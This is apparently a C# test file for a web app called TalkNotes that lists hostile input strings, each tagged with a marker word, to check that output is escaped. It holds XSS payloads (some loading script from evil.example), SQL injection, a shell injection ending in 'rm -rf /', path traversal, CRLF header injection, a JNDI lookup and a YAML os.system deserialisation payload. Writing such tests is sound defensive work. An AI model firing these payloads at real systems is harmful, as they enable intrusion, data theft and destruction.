namespace TalkNotes.Web.Tests.Hostile;

/// <summary>Short texts made to hurt: in a document, a field, a query, an address, a file name. Each carries the marker, so that it is found again.</summary>
internal static class HostileTexts
{
    /// <summary>A word that stands nowhere else: not in our pages, and never in a log.</summary>
    public const string Marker = "zqxjvex";

    public static IReadOnlyList<string> All { get; } =
    [
        // markup that would run
        $"<script>alert('{Marker}')</script>",
        $"\"><script src=//evil.example/{Marker}.js></script>",
        $"<img src=x onerror=alert({Marker})>",
        $"'\" onmouseover=alert({Marker}) x='",
        $"<svg/onload=alert({Marker})>",
        $"<svg><script>alert&#40;{Marker}&#41;</script>",
        $"</textarea><script>{Marker}</script>",
        $"</title><script>{Marker}</script>",
        $"--><script>{Marker}</script><!--",
        $"]]><script>{Marker}</script><![CDATA[",
        $"<iframe src=\"javascript:alert({Marker})\"></iframe>",
        $"<a href=\"javascript:alert({Marker})\">talk</a>",
        $"<a href=\"jav&#x09;ascript:alert({Marker})\">talk</a>",
        $"<form action=//evil.example><input name={Marker}></form>",
        $"<meta http-equiv=refresh content=0;url=//evil.example/{Marker}>",
        $"<base href=//evil.example/{Marker}/>",
        $"<style>*{{background:url(//evil.example/{Marker})}}</style>",
        $"<link rel=stylesheet href=//evil.example/{Marker}.css>",
        $"<object data=//evil.example/{Marker}></object>",
        $"<math><mtext></p><style><img src=x onerror={Marker}>",
        $"&lt;script&gt;{Marker}&lt;/script&gt;",
        $"&#60;script&#62;{Marker}&#60;/script&#62;",
        $"%3Cscript%3E{Marker}%3C/script%3E",
        $"\uFF1Cscript\uFF1E{Marker}\uFF1C/script\uFF1E",
        $"+ADw-script+AD4-{Marker}",

        // Markdown and addresses
        $"[{Marker}](javascript:alert(1))",
        $"[{Marker}](<java\tscript:alert(1)>)",
        $"![{Marker}](data:text/html;base64,PHNjcmlwdD4=)",
        $"<javascript:alert({Marker})>",
        $"javascript:alert('{Marker}')",
        $"data:text/html,<script>{Marker}</script>",
        $"vbscript:{Marker}",
        $"https://evil.example/{Marker}\" onclick=\"x",

        // templates, SQL, full text, shell, paths, spreadsheets, headers
        $"{{{{7*7}}}} {Marker} ${{7*7}} @(7*7) <%= 7*7 %>",
        $"@Html.Raw(\"{Marker}\") @{{ throw new Exception(); }}",
        $"'; DROP TABLE talks; -- {Marker}",
        $"\" OR 1=1 -- {Marker}",
        $"{Marker}') UNION SELECT password_hash FROM accounts --",
        $"NEAR(\"{Marker}\" AND OR NOT * : ^ ) (",
        $"\"\"\"\" {Marker} AND \" OR \"",
        $"$({Marker}) `{Marker}` | {Marker} && rm -rf /",
        $"../../../../etc/{Marker}",
        $"..\\..\\windows\\{Marker}",
        $"/etc/passwd%00{Marker}",
        $"=cmd|' /C {Marker}'!A0",
        $"{Marker}\r\nSet-Cookie: stolen=1\r\n\r\n<html>",
        $"{Marker}%0d%0aSet-Cookie:%20stolen=1",
        $"{{\"$ne\": \"{Marker}\", \"__proto__\": {{\"x\": 1}}}}",
        $"!!python/object/apply:os.system ['{Marker}']",
        $"${{jndi:ldap://evil.example/{Marker}}}",

        // characters
        $"{Marker}\0null",
        $"\u202E{Marker} reversed \u2066 isolated",
        $"{Marker}\u200B\u200C\u200D\uFEFF\u2060zero width",
        $"{Marker}\u001B[31m red \u001B]0;title\u0007",
        $"{Marker}\u0085next\u2028line\u2029paragraph",
        $"{Marker}\uFFFE\uFFFF\uFDD0 no characters",
        $"{Marker} " + string.Concat(Enumerable.Repeat("e\u0301\u0302\u0303", 300)),
        $"{Marker} \U0001F468\u200D\U0001F469\u200D\U0001F467\u200D\U0001F466 \U000E0041\U0010FFFD",
        $"{Marker} \u0600\u06DD\uFDFA \u1160\u115F İıẞǅ",
        $"{Marker} " + new string(' ', 2_000) + "end",
        $"{Marker} " + new string('a', 3_000),
        $"{Marker} " + string.Concat(Enumerable.Repeat("(", 1_000)),
        $"{Marker} " + string.Concat(Enumerable.Repeat("a OR ", 400)) + "b",
        $"{Marker} -" + string.Concat(Enumerable.Repeat("x* ", 400)),
    ];
}
